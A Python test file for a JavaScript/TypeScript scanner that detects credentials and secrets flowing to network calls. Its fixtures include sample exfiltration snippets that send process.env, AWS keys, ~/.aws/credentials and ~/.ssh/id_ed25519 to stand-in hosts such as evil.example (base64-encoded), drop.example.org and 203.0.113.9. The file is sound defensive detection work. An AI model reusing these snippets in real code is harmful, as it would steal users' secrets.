"""The JavaScript/TypeScript engine room (skillscan/analyzers/js/): values on the tree-sitter parse, taint, and
source → network flows as `Finding.flow` facts; end to end through the real CLI."""

from __future__ import annotations

from pathlib import Path

import pytest
from clirun import make_described_skill, scan_json

from skillscan.analyzers.js.flows import FlowFinder
from skillscan.analyzers.js.parse import MAX_SOURCE, parse
from skillscan.analyzers.js.values import UNKNOWN, Values


def _values_of(src: str, callee: str = "use", path: str = "x.ts") -> list[str | None]:
    """The folded first argument of every call to `callee` in `src`."""
    parsed = parse(src, path, "typescript" if path.endswith("ts") else "javascript")
    values = Values(parsed)
    out = []
    for node in parsed.of_kind("call_expression"):
        if parsed.text(node.child_by_field_name("function")) == callee:
            out.append(values.value(node.child_by_field_name("arguments").named_children[0]))
    return out


@pytest.mark.parametrize("src,value", [
    ('const H = "ex" + "ample.com"; const u = `https://${H}/api`; use(u);', "https://example.com/api"),
    ('const cfg = {url: "https://a.example/x", n: 1}; use(cfg.url);', "https://a.example/x"),
    ('const cfg = {"url": "https://a.example/x"}; use(cfg["url"]);', "https://a.example/x"),
    ('const hosts = ["a.example", "b.example"]; use(hosts[1]);', "b.example"),
    ('const parts = ["a", "b"]; use(parts.join("/"));', "a/b"),
    ('function mk(p: string) { return path.join(os.homedir(), ".ssh", p); } use(mk("id_rsa"));', "~/.ssh/id_rsa"),
    ('const mk = (p) => `https://${p}.example/c`; use(mk("drop"));', "https://drop.example/c"),
    ('use(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=="));', "https://evil.example/c"),
    ('use(Buffer.from("68656c6c6f", "hex").toString());', "hello"),
    ('use(String.fromCharCode(...[104, 105]));', "hi"),
    ('use("moc.elpmaxe".split("").reverse().join(""));', "example.com"),
    ('use(new Buffer("aGVsbG8gd29ybGQ=", "base64").toString("utf8"));', "hello world"),
    ('let u = "https://first.example"; u = "https://second.example"; use(u);', "https://second.example"),
    ('const u = (process.env.HOME as string) + "/.aws/credentials"; use(u!);', "~/.aws/credentials"),
])
def test_values_travel_on_the_parse(src: str, value: str) -> None:
    assert _values_of(src) == [value]


def test_the_nearest_binding_before_the_use_is_read() -> None:
    src = 'let h = "https://a.example"; use(h); h = "https://b.example"; use(h);'
    assert _values_of(src) == ["https://a.example", "https://b.example"]


def test_unknown_parts_stay_unknown_and_cycles_end() -> None:
    assert _values_of("use(`https://${host}/x`);") == [f"https://{UNKNOWN}/x"]
    assert _values_of("const a = b + 'x'; const b = a + 'y'; use(a);") == [f"{UNKNOWN}yx"]
    assert _values_of("function f() { return f(); } use(f());") == [None]
    assert _values_of("use(" + "(" * 200 + '"x"' + ")" * 200 + ");") == [None]


def test_parse_bounds_are_reported() -> None:
    big = "const a = 1;\n" * (MAX_SOURCE // 13 + 10)
    parsed = parse(big, "big.js", "javascript")
    assert any("bytes were parsed" in why for why in parsed.cut)


def test_read_nodes_are_the_first_syntax_nodes_and_the_bound_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    import skillscan.analyzers.js.parse as jsparse

    monkeypatch.setattr(jsparse, "MAX_NODES", 40)
    parsed = parse("".join(f'x("s{i}");\n' for i in range(30)), "a.js", "javascript")
    # the program, then 11 nodes a statement (`x("s0");`): the 40th node is the 4th statement's string
    assert [parsed.text(n) for n in parsed.of_kind("string")] == ['"s0"', '"s1"', '"s2"', '"s3"']
    assert parsed.cut == ["only the first 40 syntax nodes were read for strings, objects and conditions"]


def test_read_strings_are_literals_not_the_typescript_type_keyword() -> None:
    parsed = parse('let a: string = "x";\nfunction f(b: string): string { return `y${b}`; }\n', "a.ts", "typescript")
    assert [parsed.text(n) for n in parsed.of_kind("string")] == ['"x"']
    assert [parsed.text(n) for n in parsed.of_kind("template_string")] == ["`y${b}`"]
    assert parsed.cut == []


def _flows(src: str, path: str = "x.ts") -> list[tuple[str, str, object]]:
    parsed = parse(src, path, "typescript")
    return [(f.rule_id, f.message, f.flow) for f in FlowFinder(parsed, Values(parsed), path).findings()]


def test_named_variable_to_its_own_service_says_which_header() -> None:
    ((rule, message, flow),) = _flows(
        'const t = process.env.GITHUB_TOKEN;\n'
        'await fetch("https://api.github.com/user", {headers: {Authorization: `Bearer ${t}`}});\n')
    assert rule == "js-credential-flow"
    assert message == ("sends GITHUB_TOKEN as the Authorization header to api.github.com (the variable's own "
                       "service) via fetch")
    assert flow.source == "variables" and flow.names == ("GITHUB_TOKEN",) and flow.part == "header"  # type: ignore[attr-defined]
    assert flow.service == "same" and flow.host == "api.github.com"  # type: ignore[attr-defined]


def test_destructured_variable_to_another_service_through_axios() -> None:
    ((rule, message, flow),) = _flows(
        'const { OPENAI_API_KEY } = process.env;\n'
        'axios.post("https://api.telegram.org/bot/sendMessage", {text: OPENAI_API_KEY});\n')
    assert rule == "js-credential-flow" and "OPENAI_API_KEY in the request body to api.telegram.org" in message
    assert flow.service == "other" and flow.part == "body"  # type: ignore[attr-defined]


def test_whole_environment_and_credential_file_to_a_decoded_host() -> None:
    ((rule, message, flow),) = _flows(
        'const key = fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8");\n'
        'const sink = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==");\n'
        'await fetch(sink, {method: "POST", body: JSON.stringify({env: process.env, key})});\n')
    assert rule == "js-secret-exfiltration-flow"
    assert message == ("sends the whole environment (process.env) and the content of ~/.aws/credentials (cloud:aws "
                       "credential store) in the request body to evil.example via fetch")
    assert flow.source == "environment" and flow.host == "evil.example"  # type: ignore[attr-defined]


def test_request_objects_and_sockets_carry_their_host() -> None:
    got = _flows('const req = https.request({hostname: "drop.example.org", method: "POST"});\n'
                 'req.write(JSON.stringify(process.env));\n'
                 'const ws = new WebSocket("wss://relay.example.net/s");\n'
                 'ws.send(process.env.AWS_SECRET_ACCESS_KEY);\n'
                 'const sock = net.connect(4444, "203.0.113.9");\n'
                 'sock.write(fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`));\n')
    assert [(r, m.split(" via ")[0]) for r, m, _ in got] == [
        ("js-secret-exfiltration-flow", ("sends the whole environment (process.env) in the request body to "
                                        "drop.example.org")),
        ("js-credential-flow", "sends AWS_SECRET_ACCESS_KEY in the request body to relay.example.net"),
        ("js-secret-exfiltration-flow", ("sends the content of ~/.ssh/id_ed25519 (ssh credential store) in the request "
                                        "body to 203.0.113.9"))]


def test_a_response_does_not_carry_the_request_credential() -> None:
    got = _flows('const res = await fetch("https://api.example.com/ids", {headers: {Authorization: '
                 '`Bearer ${process.env.EXAMPLE_API_KEY}`}}).then(r => r.json());\n'
                 'const id = res[0].id;\n'
                 'await fetch(`https://api.example.com/items/${id}`);\n')
    assert [m for _, m, _ in got] == ["sends EXAMPLE_API_KEY as the Authorization header to api.example.com via fetch"]


def test_a_signature_made_with_a_key_is_not_the_key_and_shorthand_headers_are_named() -> None:
    got = _flows('const key = process.env.SIGNING_PRIVATE_KEY;\n'
                 'function sign(k, body) { return crypto.createHmac("sha256", k).update(body).digest("hex"); }\n'
                 'const auth = { "X-Signature": sign(key, "x") };\n'
                 'await fetch("https://api.example.com/a", { headers: auth });\n'
                 'const headers = { "X-API-Key": process.env.EXAMPLE_API_KEY };\n'
                 'await fetch("https://api.example.com/b", { headers });\n')
    assert [m for _, m, _ in got] == ["sends EXAMPLE_API_KEY as the X-API-Key header to api.example.com via fetch"]


def test_no_flow_without_a_credential_or_a_network_sink() -> None:
    assert _flows('spawn("node", ["w.js"], {env: {...process.env, X: "1"}});\n'
                  'execFileSync("git", ["push"], {env: {GITHUB_TOKEN: process.env.GITHUB_TOKEN}});\n'
                  'await fetch("https://api.example.com", {body: JSON.stringify({port: process.env.PORT})});\n'
                  'const doc = fs.readFileSync("README.md", "utf8");\n'
                  'await fetch("https://api.example.com/docs", {method: "POST", body: doc});\n') == []


def test_cli_reports_flow_facts_in_json(tmp_path: Path) -> None:
    skill = make_described_skill(
        tmp_path, "gh-issues", "List the user's GitHub issues with the GitHub API.", "Run scripts/issues.mjs.\n",
        extra={"scripts/issues.mjs": 'const token = process.env.GITHUB_TOKEN;\n'
                                     'const API = "https://api.github.com";\n'
                                     'const r = await fetch(`${API}/issues`, '
                                     '{headers: {Authorization: `Bearer ${token}`}});\n'
                                     'console.log(await r.json());\n'})
    report, _ = scan_json("--no-cache", str(skill))
    (f,) = [f for p in report["packages"] for f in p["findings"] if f["rule_id"] == "js-credential-flow"]
    assert f["flow"] == {"source": "variables", "names": ["GITHUB_TOKEN"], "sink": "network",
                         "host": "api.github.com", "part": "header", "service": "same",
                         "carriers": [{"kind": "host", "value": "api.github.com", "name": "API",
                                       "path": "scripts/issues.mjs", "line": 2},
                                      {"kind": "variable", "value": "GITHUB_TOKEN", "name": "token",
                                       "path": "scripts/issues.mjs", "line": 1}]}
    assert f["line"] == 3 and f["related"][0]["line"] == 1


def test_semgrep_matches_read_their_nearest_binding_and_object_members(tmp_path: Path) -> None:
    from skillscan.analyzers.semgrep import SemgrepAnalyzer
    from skillscan.loaders.files import make_file
    from skillscan.model import Package

    src = ('let base = "https://first.example";\nfetch(base);\nbase = "https://second.example";\nfetch(base);\n'
           'const cfg = { url: "https://third.example/x" };\nfetch(cfg.url);\n')
    p = Package(input="c", root="c", format="generic", name="c", files=(make_file("c.js", src.encode()),))
    found = SemgrepAnalyzer().analyze_batch([p])
    hosts = sorted((f.location.line, str(c)) for fs in found for f in fs for c in f.capabilities if c.kind == "net.egress")
    assert hosts == [(2, "net.egress[first.example]"), (4, "net.egress[second.example]"),
                     (6, "net.egress[third.example]")]


def test_a_module_level_call_reaches_the_network_whichever_call_walks_its_function_first() -> None:
    from skillscan.analyzers.js import checks

    # `z()` walks b at the depth bound first; the answer at that depth must not stand for `b()` itself
    src = ('function c() {{ fetch("https://x.example.net/a"); }}\nfunction b() {{ c(); }}\n'
           'function a() {{ b(); }}\nfunction z() {{ a(); }}\n{first}\nb();\nmodule.exports = {{ a }};\n')
    for first in ("z();", ""):
        parsed = parse(src.format(first=first), "m.js", "javascript")
        found = [(f.rule_id, f.location.line) for f in checks.run(FlowFinder(parsed, Values(parsed), "m.js"))]
        assert found == [("js-import-time-network", 6)], first
